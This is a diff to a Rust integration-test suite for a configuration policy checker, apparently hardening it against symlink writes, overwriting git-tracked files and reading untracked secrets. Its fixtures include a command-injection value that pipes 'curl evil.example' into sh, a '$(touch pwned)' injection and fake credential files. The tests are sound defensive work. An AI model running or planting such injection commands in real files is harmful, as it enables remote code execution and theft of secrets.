@@ -146,25 +146,27 @@ fn config_output_never_goes_through_a_symlink() {
     let s = site();
     write(&s.root, "cm.yaml", CONFIGMAP);
     symlink(&s.outside, s.root.join("reports")).unwrap();
-    write(&s.root, ".tollgate.yaml", "output: [json=reports/r.txt]\n");
+    write(&s.root, ".tollgate.yaml", "output: [json=reports/r.json]\n");
     refused(&tollgate(&s.root, &["check"]), &[".tollgate.yaml:1:10", "reports is a symbolic link"]);
     fs::remove_file(s.root.join("reports")).unwrap();
 
     fs::create_dir(s.root.join("reports")).unwrap();
-    let victim = s.outside.join("victim.sh");
-    symlink(&victim, s.root.join("reports/r.txt")).unwrap();
-    refused(&tollgate(&s.root, &["check"]), &["`output`: reports/r.txt: not written: it is a symbolic link"]);
+    write(&s.root, ".tollgate.yaml", "output: [json=reports/r.json]\nexclude: [\"reports/**\"]\n");
+    let victim = s.outside.join("victim.json");
+    symlink(&victim, s.root.join("reports/r.json")).unwrap();
+    refused(&tollgate(&s.root, &["check"]), &["`output`: reports/r.json: not written: it is a symbolic link"]);
     assert!(!victim.exists(), "written through a dangling link");
-    fs::write(&victim, "#!/bin/sh\necho mine\n").unwrap();
+    fs::write(&victim, "{\"mine\": true}\n").unwrap();
     refused(&tollgate(&s.root, &["check"]), &["it is a symbolic link"]);
-    assert_eq!(fs::read_to_string(&victim).unwrap(), "#!/bin/sh\necho mine\n");
+    assert_eq!(fs::read_to_string(&victim).unwrap(), "{\"mine\": true}\n");
 
-    // A regular file is replaced by a new one: its exec bit does not carry over.
-    fs::remove_file(s.root.join("reports/r.txt")).unwrap();
-    write(&s.root, "reports/r.txt", "#!/bin/sh\n");
-    fs::set_permissions(s.root.join("reports/r.txt"), fs::Permissions::from_mode(0o755)).unwrap();
+    // A regular file (untracked: a previous report) is replaced by a new one: its exec bit does
+    // not carry over.
+    fs::remove_file(s.root.join("reports/r.json")).unwrap();
+    write(&s.root, "reports/r.json", "#!/bin/sh\n");
+    fs::set_permissions(s.root.join("reports/r.json"), fs::Permissions::from_mode(0o755)).unwrap();
     tollgate(&s.root, &["check"]).expect_code(0);
-    let report = s.root.join("reports/r.txt");
+    let report = s.root.join("reports/r.json");
     assert!(fs::read_to_string(&report).unwrap().contains("\"version\": 1"));
     assert_eq!(fs::metadata(&report).unwrap().permissions().mode() & 0o111, 0);
 }
@@ -246,11 +248,16 @@ fn symlinked_config_is_refused() {
     fs::write(s.outside.join("cfg.yaml"), "secret-token-123: x\n").unwrap();
     symlink("../outside/cfg.yaml", s.root.join(".tollgate.yaml")).unwrap();
     write(&s.root, "cm.yaml", CONFIGMAP);
-    for args in [&["check"][..], &["check", "--staged"], &["parse", "cm.yaml"]] {
+    for args in [&["check"][..], &["parse", "cm.yaml"]] {
         let run = tollgate(&s.root, args);
         refused(&run, &[".tollgate.yaml is a symbolic link"]);
         assert!(!run.stderr.contains("secret-token-123"), "{}", run.stderr);
     }
+    // `--staged` reads the config from the index, where the link is a link.
+    git(&s.root, &["add", "-A"]);
+    let run = tollgate(&s.root, &["check", "--staged"]);
+    refused(&run, &[".tollgate.yaml in the index is a symbolic link"]);
+    assert!(!run.stderr.contains("secret-token-123"), "{}", run.stderr);
     commit_all(&s.root, "linked config");
     let run = tollgate(&s.root, &["check", "--rev", "HEAD"]);
     refused(&run, &[".tollgate.yaml in HEAD is a symbolic link"]);
@@ -295,6 +302,7 @@ fn parse_config_file_reads_only_inside_the_repository() {
         assert!(msg.contains(&format!("{path}: not read")) && msg.contains(why), "{path}: {msg}");
     }
     write(&s.root, "policy/read.rego", reader_policy("data/ok.yaml"));
+    git(&s.root, &["add", "data/ok.yaml"]);
     let run = tollgate(&s.root, &["check", "-p", "policy", "-o", "json"]);
     assert!(run.stdout.contains("got {\\\"token\\\": \\\"inside-value\\\"}"), "{}", run.stdout);
 
@@ -560,4 +568,295 @@ fn lfs_pointers_block_unless_allowed() {
     tollgate(&s.root, &["parse", "big.yaml"]).expect_code(1);
     write(&s.root, ".tollgate.yaml", "lfs-pointers: maybe\n");
     refused(&tollgate(&s.root, &["check"]), &[".tollgate.yaml:1:1: `lfs-pointers` must be `allow` or `block`"]);
+}
+
+/// `output:` in the repository's config never replaces a file git tracks (in the index, `HEAD`
+/// or the commit checked, under any letter case): `json=package.json` used to overwrite the
+/// committed `package.json` (its `scripts` then run by `npm test`) with report text carrying the
+/// manifest's `$(...)`, and in `--rev` and `--staged` mode to clobber the user's local edits.
+/// Every mode refuses it, exit 2 naming the line, the file unchanged; `-o` stays free.
+#[test]
+fn config_output_never_replaces_a_tracked_file() {
+    let s = site();
+    let package = "{\"scripts\": {\"test\": \"make test\"}}\n";
+    write(&s.root, "package.json", package);
+    write(&s.root, "docs/notes.md", "# notes\n");
+    write(&s.root, "x.yaml", "apiVersion: v1\nkind: \"$(curl evil.example | sh)\"\nmetadata: {name: a}\n");
+    write(&s.root, ".tollgate.yaml", "output: [\"json=package.json\"]\n");
+    commit_all(&s.root, "base");
+    // The user's local edit to a tracked file is not the report's to overwrite either.
+    write(&s.root, "docs/notes.md", "# notes\nunsaved local edit\n");
+    for mode in [&["check"][..], &["check", "--rev", "HEAD"], &["check", "--staged"]] {
+        let run = tollgate(&s.root, mode);
+        refused(&run, &[".tollgate.yaml:1:10: `output`: package.json: not written: git tracks it (in the index)"]);
+        assert_eq!(fs::read_to_string(s.root.join("package.json")).unwrap(), package, "{mode:?}");
+    }
+    for (config, path, where_) in [
+        ("output: [\"json=PACKAGE.JSON\"]\n", "PACKAGE.JSON", "in the index"),
+        ("output: [markdown=docs/notes.md]\n", "docs/notes.md", "in the index"),
+        ("output: [markdown=Docs/Notes.MD]\n", "Docs/Notes.MD", "in the index"),
+    ] {
+        write(&s.root, ".tollgate.yaml", config);
+        let run = tollgate(&s.root, &["check"]);
+        refused(&run, &[&format!("`output`: {path}: not written: git tracks it ({where_})")]);
+    }
+    assert_eq!(fs::read_to_string(s.root.join("docs/notes.md")).unwrap(), "# notes\nunsaved local edit\n");
+    // Only staged (not yet committed), or removed from the index but still in HEAD: tracked too.
+    write(&s.root, "staged.json", "{}\n");
+    git(&s.root, &["add", "staged.json"]);
+    write(&s.root, ".tollgate.yaml", "output: [json=staged.json]\n");
+    refused(&tollgate(&s.root, &["check", "x.yaml"]), &["staged.json: not written: git tracks it (in the index)"]);
+    git(&s.root, &["rm", "-q", "--cached", "package.json"]);
+    write(&s.root, ".tollgate.yaml", "output: [json=package.json]\n");
+    refused(&tollgate(&s.root, &["check", "x.yaml"]), &["package.json: not written: git tracks it (in HEAD)"]);
+    assert_eq!(fs::read_to_string(s.root.join("package.json")).unwrap(), package);
+
+    // An untracked report path is written (the previous report replaced), and the command line
+    // may name any file.
+    write(&s.root, ".tollgate.yaml", "output: [json=reports/r.json]\nexclude: [\"reports/**\"]\n");
+    tollgate(&s.root, &["check", "x.yaml"]).expect_code(0);
+    tollgate(&s.root, &["check", "x.yaml"]).expect_code(0);
+    assert!(fs::read_to_string(s.root.join("reports/r.json")).unwrap().contains("\"version\": 1"));
+    tollgate(&s.root, &["check", "x.yaml", "--config", "/dev/null", "-o", "json=package.json"]).expect_code(0);
+    assert!(fs::read_to_string(s.root.join("package.json")).unwrap().contains("\"version\": 1"));
+}
+
+/// A report file named in the repository's config has a name that fits its format, so it cannot
+/// stand in for a `Makefile`, an `.envrc`, a script or a tool's config that runs commands, even
+/// where git tracks nothing (a new file, `--rev` of a commit without it).
+#[test]
+fn config_output_name_fits_its_format() {
+    let s = site();
+    write(&s.root, "x.yaml", "apiVersion: v1\nkind: \"$(touch pwned)\"\nmetadata: {name: a}\n");
+    write(&s.root, ".tollgate.yaml", "exclude: [\"out/**\"]\nschemas: false\n");
+    commit_all(&s.root, "base");
+    for (entry, want) in [
+        ("github=Makefile", "a `github` report from the config file must be named *.txt or *.log"),
+        ("human=.envrc", "a `human` report from the config file must be named *.txt or *.log"),
+        ("github=ci/deploy.sh", "must be named *.txt or *.log"),
+        ("json=.txt", "must be named *.json"),
+        ("json=out/.json", "must be named *.json"),
+        ("markdown=out/r.json", "a `markdown` report from the config file must be named *.md or *.markdown"),
+        ("sarif=out/r.json", "a `sarif` report from the config file must be named *.sarif or *.sarif.json"),
+        ("junit=out/r.html", "a `junit` report from the config file must be named *.xml"),
+    ] {
+        write(&s.root, ".tollgate.yaml", format!("exclude: [\"out/**\"]\noutput: [\"{entry}\"]\nschemas: false\n"));
+        // `--staged` reads the staged config.
+        git(&s.root, &["add", ".tollgate.yaml"]);
+        let path = entry.split_once('=').unwrap().1;
+        for mode in [&["check"][..], &["check", "--staged"]] {
+            let run = tollgate(&s.root, mode);
+            refused(&run, &[&format!(".tollgate.yaml:2:10: `output`: {path}: not written: "), want]);
+        }
+        assert!(!s.root.join(path).exists(), "{entry}");
+    }
+    let good = "[json=out/r.json, sarif=out/r.sarif, sarif=out/r.sarif.json, junit=out/r.xml, markdown=out/r.md, \
+                markdown=out/r.markdown, github=out/r.txt, human=out/r.log, json=out/UPPER.JSON]";
+    write(&s.root, ".tollgate.yaml", format!("exclude: [\"out/**\"]\noutput: {good}\nschemas: false\n"));
+    tollgate(&s.root, &["check"]).expect_code(0);
+    let mut written = entries(&s.root.join("out"));
+    written.sort();
+    assert_eq!(
+        written,
+        ["UPPER.JSON", "r.json", "r.log", "r.markdown", "r.md", "r.sarif", "r.sarif.json", "r.txt", "r.xml"]
+    );
+    assert!(!s.root.join("pwned").exists());
+    // The command line names any file it likes.
+    tollgate(&s.root, &["check", "--config", "/dev/null", "--no-schemas", "-o", "github=Makefile"]).expect_code(0);
+    assert!(s.root.join("Makefile").is_file());
+}
+
+/// A policy that reads `path` with `parse_config_file` and reports what it got or why not.
+fn reporting_reader(path: &str) -> String {
+    format!(
+        "package main\nimport rego.v1\ndeny contains msg if {{\n  input.kind == \"ConfigMap\"\n  x := parse_config_file({path:?})\n  msg := sprintf(\"got %v\", [x])\n}}\n"
+    )
+}
+
+/// The one finding of a run of [`reporting_reader`]: its rule and message.
+#[track_caller]
+fn read_result(run: &Run) -> (String, String) {
+    let report = run.json();
+    let f = findings(&report).iter().find(|f| f["source"] == "policy").unwrap_or_else(|| panic!("{report:#}"));
+    (f["rule"].as_str().unwrap().to_string(), f["message"].as_str().unwrap().to_string())
+}
+
+/// `parse_config_file` reads only files git tracks: an untracked `.env` or the `gha-creds-*.json`
+/// a CI auth step writes into the checkout is nobody's commit, and a policy from the repository
+/// used to put it into the report. Worktree mode reads tracked files (from disk), `--rev` the
+/// commit and `--staged` the index (never the disk); a `-p` directory of the command line is the
+/// user's. A refused read is a `policy/runtime-error` naming the path.
+#[test]
+fn parse_config_file_reads_only_what_git_tracks() {
+    let s = site();
+    write(&s.root, "cm.yaml", CONFIGMAP);
+    write(&s.root, "conf/app.yaml", "token: committed\n");
+    write(&s.root, ".gitignore", ".env\ngha-creds-*.json\n");
+    commit_all(&s.root, "base");
+    write(&s.root, ".env", "token: hunter2-env\n");
+    write(&s.root, "gha-creds-4f2a.json", "{\"token\": \"hunter2-creds\"}\n");
+    write(&s.root, "untracked.yaml", "token: hunter2-untracked\n");
+    symlink(".env", s.root.join("env-link.yaml")).unwrap();
+    git(&s.root, &["add", "-f", "env-link.yaml"]);
+
+    let pol = s.outside.join("pol");
+    fs::create_dir(&pol).unwrap();
+    let pol_arg = pol.to_str().unwrap();
+    for path in [".env", "gha-creds-4f2a.json", "untracked.yaml", "./conf/../.env"] {
+        fs::write(pol.join("read.rego"), reporting_reader(path)).unwrap();
+        let run = tollgate(&s.root, &["check", "--builtin", "none", "-p", pol_arg, "-o", "json"]);
+        run.expect_code(1);
+        assert!(!run.stdout.contains("hunter2"), "{path}: {}", run.stdout);
+        let (rule, msg) = read_result(&run);
+        assert_eq!(rule, "policy/runtime-error", "{path}");
+        assert!(msg.contains(&format!("{path}: not read: git does not track it")), "{path}: {msg}");
+    }
+    // A tracked link to an untracked file is refused: the file read is the link's target.
+    fs::write(pol.join("read.rego"), reporting_reader("env-link.yaml")).unwrap();
+    let run = tollgate(&s.root, &["check", "--builtin", "none", "-p", pol_arg, "-o", "json"]);
+    assert!(!run.stdout.contains("hunter2"), "{}", run.stdout);
+    assert!(read_result(&run).1.contains("git does not track it (.env, through a symbolic link)"));
+    git(&s.root, &["rm", "-q", "--cached", "env-link.yaml"]);
+
+    // Tracked: read from disk in worktree mode (a local edit shows), from the commit with --rev
+    // and from the index with --staged.
+    fs::write(pol.join("read.rego"), reporting_reader("conf/app.yaml")).unwrap();
+    let check = |extra: &[&str]| {
+        let args = [&["check", "--builtin", "none", "-p", pol_arg, "-o", "json"][..], extra].concat();
+        read_result(&tollgate(&s.root, &args)).1
+    };
+    write(&s.root, "conf/app.yaml", "token: staged\n");
+    git(&s.root, &["add", "conf/app.yaml"]);
+    write(&s.root, "conf/app.yaml", "token: on-disk\n");
+    assert_eq!(check(&[]), "got {\"token\": \"on-disk\"}");
+    assert_eq!(check(&["--rev", "HEAD"]), "got {\"token\": \"committed\"}");
+    assert_eq!(check(&["--staged"]), "got {\"token\": \"staged\"}");
+    // Untracked files are in no commit and not in the index.
+    fs::write(pol.join("read.rego"), reporting_reader("untracked.yaml")).unwrap();
+    assert!(
+        check(&["--rev", "HEAD"]).contains("untracked.yaml: no such file in HEAD"),
+        "{}",
+        check(&["--rev", "HEAD"])
+    );
+    assert!(check(&["--staged"]).contains("untracked.yaml: no such file in the index"));
+
+    // Under a `-p` directory named on the command line, untracked files are the user's.
+    write(&s.root, "policy/read.rego", reporting_reader("policy/local.yaml"));
+    write(&s.root, "policy/local.yaml", "token: library\n");
+    for mode in [&[][..], &["--rev", "HEAD"], &["--staged"]] {
+        let args = [&["check", "--builtin", "none", "-p", "policy", "-o", "json"][..], mode].concat();
+        assert_eq!(read_result(&tollgate(&s.root, &args)).1, "got {\"token\": \"library\"}", "{mode:?}");
+    }
+    // Outside a git repository the directory's files are read as before.
+    let plain = tempdir();
+    write(plain.path(), "cm.yaml", CONFIGMAP);
+    write(plain.path(), "local.yaml", "token: plain\n");
+    fs::write(pol.join("read.rego"), reporting_reader("local.yaml")).unwrap();
+    let run = tollgate(plain.path(), &["check", "--builtin", "none", "-p", pol_arg, "-o", "json"]);
+    assert_eq!(read_result(&run).1, "got {\"token\": \"plain\"}");
+}
+
+const DENY_NAMED: &str = "package main\nimport rego.v1\ndeny contains msg if {\n  input.kind == \"ConfigMap\"\n  input.metadata.name in data.denied\n  msg := sprintf(\"%s is denied\", [input.metadata.name])\n}\n";
+
+/// With `--rev` the repository's config comes from the commit, and so do the `policy:`, `data:`
+/// and `schema-location:` directories it names (they used to be read from the working tree, so a
+/// checkout other than the commit, or local edits, changed the gate of the commit); with
+/// `--staged` the config and those directories come from the index. `-p`/`-d` on the command
+/// line stay disk paths.
+#[test]
+fn rev_and_staged_read_the_gate_the_config_names_from_git() {
+    let s = site();
+    write(&s.root, ".tollgate.yaml", "policy: [policy]\ndata: [data]\nschema-location: [schemas]\nbuiltin: none\n");
+    write(&s.root, "policy/deny.rego", DENY_NAMED);
+    write(&s.root, "data/d.yaml", "denied: [c]\n");
+    write(&s.root, "schemas/widget-example-v1.json", WIDGET_SCHEMA);
+    write(&s.root, "apps/cm.yaml", CONFIGMAP);
+    write(&s.root, "apps/w.yaml", "apiVersion: example.com/v1\nkind: Widget\nmetadata: {name: w}\nspec: {}\n");
+    commit_all(&s.root, "gate");
+    let rules = |run: &Run| -> Vec<String> {
+        let report = run.json();
+        let mut v: Vec<String> = findings(&report).iter().map(|f| f["rule"].as_str().unwrap().to_string()).collect();
+        v.sort();
+        v
+    };
+    let want = ["main.deny", "schema/missing-required"];
+    let run = tollgate(&s.root, &["check", "-o", "json"]);
+    run.expect_code(1);
+    assert_eq!(rules(&run), want);
+
+    // The working tree weakens every gate input (and adds an untracked policy that would not
+    // even compile), and the config to match.
+    write(&s.root, "policy/deny.rego", "package main\nimport rego.v1\ndeny contains \"never\" if false\n");
+    write(&s.root, "policy/extra.rego", "package main\ndeny[x] {\n");
+    write(&s.root, "data/d.yaml", "denied: []\n");
+    write(&s.root, "schemas/widget-example-v1.json", "{}");
+    let run = tollgate(&s.root, &["check", "-o", "json"]);
+    refused(&run, &["policy/extra.rego"]);
+    let run = tollgate(&s.root, &["check", "--rev", "HEAD", "-o", "json"]);
+    run.expect_code(1);
+    assert_eq!(rules(&run), want, "--rev HEAD judged by the working tree's gate");
+    let run = tollgate(&s.root, &["check", "--staged", "-o", "json"]);
+    run.expect_code(1);
+    assert_eq!(rules(&run), want, "--staged judged by the working tree's gate");
+
+    // The config too: a local `fail-on: never` neither changes --rev nor --staged; staging it
+    // changes --staged.
+    write(
+        &s.root,
+        ".tollgate.yaml",
+        "policy: [policy]\ndata: [data]\nschema-location: [schemas]\nbuiltin: none\nfail-on: never\n",
+    );
+    tollgate(&s.root, &["check", "--rev", "HEAD", "-o", "json"]).expect_code(1);
+    tollgate(&s.root, &["check", "--staged", "-o", "json"]).expect_code(1);
+    fs::remove_file(s.root.join("policy/extra.rego")).unwrap();
+    git(&s.root, &["add", "-A"]);
+    tollgate(&s.root, &["check", "--staged", "-o", "json"]).expect_code(0);
+    tollgate(&s.root, &["check", "--rev", "HEAD", "-o", "json"]).expect_code(1);
+
+    // A directory the config names that the commit lacks is an error, even when it is on disk.
+    git(&s.root, &["reset", "-q", "--hard"]);
+    write(&s.root, ".tollgate.yaml", "policy: [policy, more]\nbuiltin: none\n");
+    write(&s.root, "more/m.rego", DENY_NAMED);
+    commit_all(&s.root, "config names more");
+    git(&s.root, &["rm", "-q", "-r", "--cached", "more"]);
+    git(&s.root, &["commit", "-q", "--no-verify", "-m", "more is local only"]);
+    refused(
+        &tollgate(&s.root, &["check", "--rev", "HEAD"]),
+        &[".tollgate.yaml:1:18: more: no such file or directory in HEAD"],
+    );
+    refused(
+        &tollgate(&s.root, &["check", "--staged"]),
+        &[".tollgate.yaml:1:18: more: no such file or directory in the index"],
+    );
+
+    // On the command line, -p and -d are disk paths in every mode.
+    write(&s.root, "policy/deny.rego", "package main\nimport rego.v1\ndeny contains \"never\" if false\n");
+    let args = ["check", "--rev", "HEAD", "--config", "/dev/null", "--builtin", "none", "-p", "policy", "-d", "data"];
+    tollgate(&s.root, &args).expect_code(0);
+}
+
+/// In a sparse checkout with a sparse index, a directory outside the cone is one index entry (its
+/// files are neither on disk nor listed in the index): `--staged` reads the gate files the config
+/// names there, and `parse_config_file`'s files, from the tree that entry names.
+#[test]
+fn staged_reads_the_gate_from_a_sparse_index() {
+    let s = site();
+    write(&s.root, "apps/cm.yaml", CONFIGMAP);
+    write(&s.root, "policy/sub/p.rego", DENY_NAMED.replace("data.denied", "data.sparse.denied"));
+    write(&s.root, "policy/read.rego", reporting_reader("conf/sub/app.yaml").replace("deny contains", "warn contains"));
+    write(&s.root, "data/d.yaml", "sparse: {denied: [c]}\n");
+    write(&s.root, "conf/sub/app.yaml", "token: from-the-tree\n");
+    write(&s.root, ".tollgate.yaml", "policy: [policy]\ndata: [data/d.yaml]\nbuiltin: none\nschemas: false\n");
+    commit_all(&s.root, "base");
+    git(&s.root, &["sparse-checkout", "init", "--cone", "--sparse-index"]);
+    git(&s.root, &["sparse-checkout", "set", "apps"]);
+    let listed = git(&s.root, &["ls-files", "--sparse", "-s"]);
+    assert!(listed.contains("040000") && !s.root.join("policy").exists(), "not a sparse index:\n{listed}");
+
+    let run = tollgate(&s.root, &["check", "--staged", "-o", "json"]);
+    run.expect_code(1);
+    let report = run.json();
+    let messages: Vec<&str> = findings(&report).iter().filter_map(|f| f["message"].as_str()).collect();
+    assert!(messages.contains(&"c is denied"), "{messages:?}");
+    assert!(messages.contains(&"got {\"token\": \"from-the-tree\"}"), "{messages:?}");
 }
